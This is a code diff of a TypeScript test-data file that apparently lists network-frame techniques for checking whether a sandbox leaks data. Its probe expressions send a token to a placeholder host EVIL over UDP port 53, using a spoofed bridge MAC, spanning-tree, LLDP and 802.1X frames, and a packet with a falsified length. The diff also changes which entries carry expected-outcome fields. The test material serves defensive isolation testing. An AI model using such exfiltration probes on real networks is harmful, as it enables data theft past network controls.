@@ -47,8 +47,6 @@ export const frames: TechniqueClass = {
       "frame-source-bridge",
       "from the bridge's own MAC address",
       "by(gateway(), ipv4(EVIL, 17, udp_part(EVIL, 53, TOKEN)), source=BRIDGE_MAC, times=1)",
-      "shut",
-      "a bridge drops what comes from itself",
     ],
     [
       "frame-everybody",
@@ -81,8 +79,6 @@ export const frames: TechniqueClass = {
       "frame-spanning-tree",
       "of the spanning tree",
       "frame('01:80:c2:00:00:00', 38, b'\\x42\\x42\\3' + TOKEN.encode())",
-      "shut",
-      NOT_CARRIED,
     ],
     ["frame-lldp", "of LLDP", "frame('01:80:c2:00:00:0e', 0x88CC, TOKEN)", "shut", NOT_CARRIED],
     ["frame-eapol", "of 802.1X", "frame('01:80:c2:00:00:03', 0x888E, TOKEN)", "shut", NOT_CARRIED],
@@ -97,6 +93,8 @@ export const frames: TechniqueClass = {
       "frame-huge",
       "of a packet whose length is a lie",
       "p = ipv4(EVIL, 17, udp_part(EVIL, 53, TOKEN)); got = by(gateway(), p[:2] + b'\\xff\\xff' + p[4:])",
+      "shut",
+      "the kernel finds the lie",
     ],
   ],
 };
